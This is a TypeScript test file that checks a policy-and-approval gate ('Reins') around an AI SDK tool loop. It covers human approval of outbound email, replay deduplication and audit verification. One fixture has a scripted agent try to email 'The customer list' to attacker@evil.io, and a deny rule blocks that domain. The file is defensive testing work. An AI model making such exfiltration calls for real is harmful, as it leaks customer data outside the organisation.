import { generateText, type ModelMessage, stepCountIs } from "ai-v7";
import { describe, expect, it } from "vitest";
import { verifyAudit } from "../audit/verify-audit.js";
import { definePolicy } from "../policy/policy-rule.js";
import { allow, deny } from "../policy/verdict.js";
import {
  charter,
  lookup,
  newWorld,
  registry,
  sendEmail,
  useTestStore,
} from "../runtime/__fixtures__/crm-workflow.js";
import { openToolSession, type SessionCallResult } from "../runtime/tool-session.js";
import { scriptedModel, toolCall } from "../testing/index.js";
import { toAiSdkToolApproval } from "./ai-sdk-tool-approval.js";
import { toAiSdkTools } from "./ai-sdk-tools.js";

// AI SDK 7's own loop (`generateText` from ai@7, installed here as `ai-v7`) with its `toolApproval`.

const t = useTestStore();

const noAttackers = definePolicy({
  name: "no-attackers",
  check: (call) =>
    call.toolName === "send_email" && (call.input as { to?: string }).to?.endsWith("@evil.io")
      ? deny("ATTACKER", "evil.io is on the block list")
      : allow(),
});

const email = { to: "ceo@acme.com", body: "Your demo is booked." };
const leak = { to: "attacker@evil.io", body: "The customer list." };

async function open(world = newWorld()) {
  const session = await openToolSession({
    charter,
    tools: registry,
    policies: [noAttackers],
    store: t.store,
    audit: t.audit,
    input: { leadId: "L-1", domain: "acme.com" },
    env: world,
    agent: "ai-sdk-7:scripted",
  });
  const cards = [lookup, sendEmail];
  const tools = toAiSdkTools(cards, { session });
  return { session, world, tools, toolApproval: toAiSdkToolApproval(cards, { session }) };
}

function approve(approvalId: string): ModelMessage {
  return { role: "tool", content: [{ type: "tool-approval-response", approvalId, approved: true }] };
}

describe("toAiSdkToolApproval in AI SDK 7's generateText loop", () => {
  it("executes an allowed call, returns a denial to the model, and executes an approved call once", async () => {
    const { session, world, tools, toolApproval } = await open();
    const model = scriptedModel({
      specification: "v4",
      steps: [
        {
          toolCalls: [
            toolCall("lookup", { domain: "acme.com" }, "c-ok"),
            toolCall("send_email", { ...leak, confidence: 0.9 }, "c-denied"),
            toolCall("send_email", { ...email, confidence: 0.9 }, "c-email"),
          ],
        },
        { text: "Email sent; lead qualified." },
        { text: "Already sent." },
      ],
    });
    // Signed approval requests (the SDK's HMAC over the call) compose with the gate's approval.
    const settings = {
      model,
      tools,
      toolApproval,
      stopWhen: stepCountIs(5),
      experimental_toolApprovalSecret: "s",
    };
    const prompt: ModelMessage[] = [{ role: "user", content: "Qualify lead L-1." }];
    const first = await generateText({ ...settings, messages: prompt });

    // The SDK stopped for its approval: nothing was sent, the model was asked once.
    expect(model.calls).toHaveLength(1);
    expect(world.sent).toEqual([]);
    const results = first.toolResults.map((r) => [r.toolCallId, (r.output as SessionCallResult).status]);
    expect(results).toEqual([
      ["c-ok", "ok"],
      ["c-denied", "denied"],
    ]);
    expect(first.toolResults.find((r) => r.toolCallId === "c-denied")?.output).toMatchObject({
      status: "denied",
      reasons: [{ rule: "no-attackers", code: "ATTACKER", message: "evil.io is on the block list" }],
    });
    const approvalId = session.approvalId("c-email");
    const requests = first.content.flatMap((part) => (part.type === "tool-approval-request" ? [part] : []));
    // The denial is the gate's result, not an SDK approval step: only the email asks for approval.
    expect(requests.map((r) => [r.toolCall.toolCallId, r.reason, r.isAutomatic])).toEqual([
      [
        "c-email",
        `"send_email" communicates outside the organisation and always needs approval; Reins approval ${approvalId}`,
        undefined,
      ],
    ]);
    expect(requests[0]?.signature).toEqual(expect.any(String));
    const pending = await t.store.approvals.list({ runId: session.runId, status: "pending" });
    expect(pending.map((a) => [a.id, a.toolName, a.input])).toEqual([[approvalId, "send_email", email]]);

    // A human approves in Reins; the app answers the SDK's request; the SDK executes the call, once.
    await session.decide({ callId: "c-email", decision: "approved", decidedBy: "maria" });
    const request = requests[0];
    if (request === undefined) throw new Error("no approval request");
    const answered = [...prompt, ...first.response.messages, approve(request.approvalId)];
    const second = await generateText({ ...settings, messages: answered });
    expect(second.text).toBe("Email sent; lead qualified.");
    expect(world.sent).toEqual([email]);
    // The model read every result, the denial's reasons included.
    const seen = model.calls[1]?.toolResults.map((r) => [
      r.toolCallId,
      (r.output as unknown as { value: { status: string } }).value.status,
    ]);
    expect(seen).toEqual([
      ["c-ok", "ok"],
      ["c-denied", "denied"],
      ["c-email", "ok"],
    ]);

    // The same answer sent again: the SDK executes the call again, and the gate's journal keeps it to one email.
    const replayed = await generateText({ ...settings, messages: answered });
    expect(replayed.text).toBe("Already sent.");
    expect(world.sent).toEqual([email]);
    model.assertConsumed();

    const ended = await session.end({
      type: "decision",
      decision: { decision: "qualified", confidence: 0.9, rationale: "booked" },
    });
    expect(ended.status).toBe("completed");
    // In the order they were settled: the denial when the SDK asked for its approval status.
    expect(ended.toolCalls.map((c) => [c.callId, c.status])).toEqual([
      ["c-denied", "denied"],
      ["c-ok", "executed"],
      ["c-email", "executed"],
    ]);
    expect(ended.toolCalls[2]).toMatchObject({ approvedBy: "maria" });
    const types = (await t.store.audit.list(session.runId)).map((e) => e.type);
    expect(types.filter((type) => type === "tool.executed")).toHaveLength(2);
    expect(types.filter((type) => type === "approval.requested")).toHaveLength(1);
    expect(types.filter((type) => type === "approval.decided")).toHaveLength(1);
    expect(types.at(-1)).toBe("run.ended");
    expect(await verifyAudit(t.store)).toMatchObject({ ok: true, runs: 1 });
  });

  it("an SDK approval alone does not execute: the Reins approval is still pending", async () => {
    const { session, world, tools, toolApproval } = await open();
    const model = scriptedModel({
      specification: "v4",
      steps: [{ toolCalls: [toolCall("send_email", email, "c-email")] }, { text: "Waiting." }],
    });
    const prompt: ModelMessage[] = [{ role: "user", content: "Email the lead." }];
    const settings = { model, tools, toolApproval, stopWhen: stepCountIs(5) };
    const first = await generateText({ ...settings, messages: prompt });
    const request = first.content.find((part) => part.type === "tool-approval-request");
    if (request?.type !== "tool-approval-request") throw new Error("no approval request");
    const second = await generateText({
      ...settings,
      messages: [...prompt, ...first.response.messages, approve(request.approvalId)],
    });
    expect(world.sent).toEqual([]);
    // The SDK executes approved calls before its first step and hands their results to the model.
    const outputs = model.calls[1]?.toolResults.map((r) => [r.toolCallId, r.output]);
    expect(outputs).toEqual([
      [
        "c-email",
        {
          type: "json",
          value: {
            status: "pending-approval",
            approvalId: session.approvalId("c-email"),
            reasons: [
              {
                rule: "external-communication",
                code: "EXTERNAL_COMMUNICATION",
                message: '"send_email" communicates outside the organisation and always needs approval',
              },
            ],
            message: `Waiting for a human's approval (${session.approvalId("c-email")}); "send_email" has not been executed.`,
          },
        },
      ],
    ]);
    expect(second.text).toBe("Waiting.");
    model.assertConsumed();
    await session.end({ type: "escalation", reason: "ownership_conflict", evidence: "test" });
  });

  it("without toolApproval, AI SDK 7 still reads the tools' needsApproval", async () => {
    const { session, world, tools } = await open();
    const model = scriptedModel({
      specification: "v4",
      steps: [{ toolCalls: [toolCall("send_email", email, "c-email")] }, { text: "Sent." }],
    });
    const prompt: ModelMessage[] = [{ role: "user", content: "Email the lead." }];
    const first = await generateText({ model, tools, messages: prompt, stopWhen: stepCountIs(5) });
    const request = first.content.find((part) => part.type === "tool-approval-request");
    if (request?.type !== "tool-approval-request") throw new Error("no approval request");
    expect(request.toolCall.toolCallId).toBe("c-email");
    await session.decide({ callId: "c-email", decision: "approved", decidedBy: "maria" });
    const second = await generateText({
      model,
      tools,
      messages: [...prompt, ...first.response.messages, approve(request.approvalId)],
      stopWhen: stepCountIs(5),
    });
    expect(second.text).toBe("Sent.");
    expect(world.sent).toEqual([email]);
    model.assertConsumed();
    await session.end({ type: "decision", decision: { decision: "qualified", confidence: 0.9 } });
  });

  it("refuses a card the session does not resolve to, naming toAiSdkToolApproval", async () => {
    const { session } = await open();
    const { exportCustomers } = await import("../runtime/__fixtures__/crm-workflow.js");
    expect(() => toAiSdkToolApproval([exportCustomers], { session })).toThrow(
      /toAiSdkToolApproval: cards\[0\] \("export_customers"\) is not among the charter's allowed tools/,
    );
    await session.end({ type: "refusal", reason: "test over" });
  });
});
